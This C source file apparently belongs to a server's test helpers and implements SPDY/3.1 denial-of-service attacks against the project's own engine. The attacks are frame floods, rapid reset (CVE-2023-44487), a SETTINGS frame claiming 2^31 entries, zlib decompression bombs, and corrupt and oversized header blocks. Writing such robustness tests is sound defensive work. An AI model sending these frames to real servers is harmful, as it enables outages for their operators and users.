/*
 * attack/spdy.c - attacks in SPDY/3.1, by prior knowledge: floods of frames, header blocks that are bombs or no zlib at
 * all, identifiers that go backwards.
 *
 * Header blocks are stored blocks of deflate, so that they need no state here; bombs are made by zlib once.
 */
#include <assert.h>
#include <string.h>
#include <zlib.h>

#include "engine/base/wire.h"
#include "engine/spdy/dictionary.h"
#include "engine/spdy/frame.h"
#include "tests/helpers/attack/attack.h"

enum { BLOCK_BYTES = 400, BOMB_TEXT_BYTES = 8 << 20, BOMB_BYTES = 32 * 1024 };

/* There is no preface; what comes back is not parsed. */
static void begin(struct peer *peer) {
  peer->made = 0;
  peer->h1 = true;
  peer->next_id = 1;
}

/* ---- header blocks --------------------------------------------------------------------------- */

static uint8_t *put_text(uint8_t *at, const char *text) {
  at = wire_put32(at, (uint32_t)strlen(text));
  memcpy(at, text, strlen(text));
  return at + strlen(text);
}

/* A request for `path`, as one stored block; the first of a connection has zlib's header. */
static size_t request_block(bool first, const char *path, uint8_t *out) {
  static const uint8_t zlib_header[] = {0x78, 0xbb, 0xe3, 0xc6, 0xa7, 0xc2};
  const char *const pairs[] = {":method",  "GET",   ":path",     path,      ":version",
                               "HTTP/1.1", ":host", "localhost", ":scheme", "http"};
  uint8_t *at = out;
  if (first) memcpy(at, zlib_header, sizeof zlib_header);
  at += first ? sizeof zlib_header : 0;
  uint8_t *head = at, *text = at + 5;
  at = wire_put32(text, 5);
  for (size_t i = 0; i < sizeof pairs / sizeof *pairs; i++)
    at = put_text(at, pairs[i]);
  uint16_t len = (uint16_t)(at - text);
  head[0] = 0;
  head[1] = (uint8_t)len, head[2] = (uint8_t)(len >> 8);
  head[3] = (uint8_t)~head[1], head[4] = (uint8_t)~head[2];
  return (size_t)(at - out);
}

static void put_syn_stream(struct peer *peer, uint32_t id, const uint8_t *block, size_t len) {
  uint8_t head[SPDY_SYN_STREAM_BYTES];
  spdy_frame_syn_stream_encode(head, SPDY_FLAG_FIN, id, 0, 0, (uint32_t)len);
  peer_put(peer, head, sizeof head);
  peer_put(peer, block, len);
}

static void put_request(struct peer *peer, uint32_t id, const char *path) {
  uint8_t block[BLOCK_BYTES];
  size_t len = request_block(peer->in_flight == 0, path, block);
  peer->in_flight = 1; /* the first one was made */
  put_syn_stream(peer, id, block, len);
}

/* ---- floods of frames ------------------------------------------------------------------------ */

static void put_small(struct peer *peer, const uint8_t *begin_at, const uint8_t *end) {
  peer_put(peer, begin_at, (size_t)(end - begin_at));
}

static bool step_ping(struct peer *peer) {
  uint8_t frame[SPDY_PING_BYTES];
  put_small(peer, frame, spdy_frame_ping_encode(frame, 1));
  return true;
}

/* variant: entries of each frame. */
static bool step_settings(struct peer *peer) {
  uint8_t head[12], *at = head;
  uint32_t entries = peer->options->variant;
  at = wire_put32(at, 0x80030000u | SPDY_SETTINGS);
  at = wire_put32(at, 4 + entries * SPDY_SETTING_BYTES);
  at = wire_put32(at, entries);
  put_small(peer, head, at);
  for (uint32_t i = 0; i < entries; i++) {
    peer_put_u32(peer, SPDY_SETTINGS_INITIAL_WINDOW_SIZE);
    peer_put_u32(peer, i);
  }
  return true;
}

/* A number of entries that is not there (CVE-2026-35469). */
static bool step_settings_lie(struct peer *peer) {
  static const uint8_t frame[] = {0x80, 3, 0, SPDY_SETTINGS, 0, 0, 0, 4, 0x7f, 0xff, 0xff, 0xff};
  peer_put(peer, frame, sizeof frame);
  return true;
}

static bool step_unknown(struct peer *peer) {
  static const uint8_t frame[] = {0x80, 3, 0, 99, 0, 0, 0, 0};
  peer_put(peer, frame, sizeof frame);
  return true;
}

static bool step_window(struct peer *peer) {
  uint8_t frame[SPDY_WINDOW_UPDATE_BYTES];
  put_small(peer, frame, spdy_frame_window_update_encode(frame, 0, 1));
  return true;
}

/* DATA for a stream that was never opened, each of which is answered. */
static bool step_data(struct peer *peer) {
  uint8_t frame[SPDY_FRAME_HEADER_BYTES];
  if (peer->units == 0) (void)step_ping(peer);
  put_small(peer, frame, spdy_frame_data_encode(frame, 1, 0, 0));
  return true;
}

static bool step_reset(struct peer *peer) {
  uint8_t frame[SPDY_RST_STREAM_BYTES];
  put_request(peer, peer->next_id, "/delay/60000");
  put_small(peer, frame, spdy_frame_rst_stream_encode(frame, peer->next_id, SPDY_CANCEL));
  peer->next_id += 2;
  return true;
}

static bool step_backwards(struct peer *peer) {
  put_request(peer, 1001, "/plaintext");
  put_request(peer, 999, "/plaintext");
  return true;
}

static bool step_version(struct peer *peer) {
  static const uint8_t frame[] = {0x80, 2, 0, SPDY_SYN_STREAM, 0, 0, 0, 10, 0, 0, 0, 1, 0, 0, 0,
                                  0,    0, 0};
  peer_put(peer, frame, sizeof frame);
  return true;
}

/* ---- header blocks that hurt ----------------------------------------------------------------- */

/* `text` compressed as the first block of a session. Returns its length. */
static size_t compress_first(const uint8_t *text, size_t len, uint8_t *out, size_t room) {
  z_stream zlib = {0};
  int ok = deflateInit(&zlib, Z_BEST_COMPRESSION);
  if (ok == Z_OK)
    ok = deflateSetDictionary(&zlib, spdy_dictionary.base, (unsigned)spdy_dictionary.len);
  zlib.next_in = (uint8_t *)(uintptr_t)text;
  zlib.avail_in = (unsigned)len;
  zlib.next_out = out;
  zlib.avail_out = (unsigned)room;
  if (ok == Z_OK) ok = deflate(&zlib, Z_SYNC_FLUSH);
  assert(ok == Z_OK && zlib.avail_out > 0);
  (void)ok;
  deflateEnd(&zlib);
  return room - zlib.avail_out;
}

/* variant 0: one value of 8 MiB; 1: names without an end, each of one byte. */
static bool step_bomb(struct peer *peer) {
  static uint8_t text[BOMB_TEXT_BYTES], bomb[BOMB_BYTES];
  static size_t bomb_len;
  if (!bomb_len) {
    uint8_t *at = wire_put32(text, peer->options->variant ? 1 << 20 : 1);
    if (peer->options->variant) {
      for (; at < text + sizeof text - 16; at += 9)
        memcpy(at, "\0\0\0\1x\0\0\0\0", 9);
    } else {
      at = put_text(at, "x");
      wire_put32(at, BOMB_TEXT_BYTES);
    }
    bomb_len = compress_first(text, sizeof text, bomb, sizeof bomb);
  }
  if (peer->units > 0) return false;
  put_syn_stream(peer, 1, bomb, bomb_len);
  return true;
}

static bool step_corrupt(struct peer *peer) {
  static const uint8_t block[] = {0x78, 0xbb, 0xe3, 0xc6, 0xa7, 0xc2, 0xff, 0xff, 0xff, 0xff};
  put_syn_stream(peer, peer->next_id, block, sizeof block);
  peer->next_id += 2;
  return true;
}

/* A block that is longer than any, in one frame. */
static bool step_oversized(struct peer *peer) {
  uint8_t head[SPDY_SYN_STREAM_BYTES];
  if (peer->units == 0)
    put_small(peer, head,
              spdy_frame_syn_stream_encode(head, 0, 1, 0, 0, SPDY_FRAME_LENGTH_MAX - 10));
  peer_put_zeros(peer, 'x', 16000);
  return true;
}

static const struct attack list[] = {
    {"spdy-ping", "SPDY: PING", step_ping, begin, true},
    {"spdy-settings", "SPDY: SETTINGS of VARIANT entries", step_settings, begin, true},
    {"spdy-settings-lie", "SPDY: SETTINGS that claims 2^31 entries (CVE-2026-35469)",
     step_settings_lie, begin, true},
    {"spdy-unknown", "SPDY: unknown frame types", step_unknown, begin, true},
    {"spdy-window", "SPDY: WINDOW_UPDATE by the byte (CVE-2019-9511)", step_window, begin, true},
    {"spdy-data", "SPDY: DATA for streams that are not there", step_data, begin, true},
    {"spdy-reset", "SPDY: rapid reset (CVE-2023-44487)", step_reset, begin, true},
    {"spdy-backwards", "SPDY: stream identifiers that go backwards", step_backwards, begin, true},
    {"spdy-version", "SPDY: SYN_STREAM of version 2", step_version, begin, true},
    {"spdy-bomb", "SPDY: header blocks that inflate without an end; variant 1: into names",
     step_bomb, begin, true},
    {"spdy-corrupt", "SPDY: header blocks that are no zlib", step_corrupt, begin, true},
    {"spdy-oversized", "SPDY: a header block of 16 MiB", step_oversized, begin, true},
};

const struct attack_list attack_spdy = ATTACK_LIST(list);
